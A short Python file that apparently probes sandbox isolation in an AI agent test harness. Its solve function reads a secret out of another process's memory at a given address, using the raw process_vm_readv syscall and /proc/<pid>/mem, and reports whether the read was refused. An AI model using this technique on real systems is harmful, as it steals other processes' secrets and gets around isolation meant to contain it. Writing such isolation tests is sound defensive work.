"""Reads a secret out of another process's memory, at the address where it lies."""

import ctypes
import json
import os

READV = 310


def solve(problem, tools, llm):
    bait = json.loads(problem.query)
    pid, address, length = bait["pid"], bait["address"], bait["length"]
    library = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(length)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), length)
    remote = (ctypes.c_void_p * 2)(address, length)
    found = {
        "process_vm_readv": library.syscall(READV, pid, local, 1, remote, 1, 0),
        "bytes": buffer.value.decode(),
    }
    try:
        fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
        found["mem"] = os.pread(fd, length, address).decode()
    except OSError as error:
        found["mem"] = str(error)
    return {"attempts": {"memory": "refused" if found["process_vm_readv"] < 0 else "worked"}, "found": found}
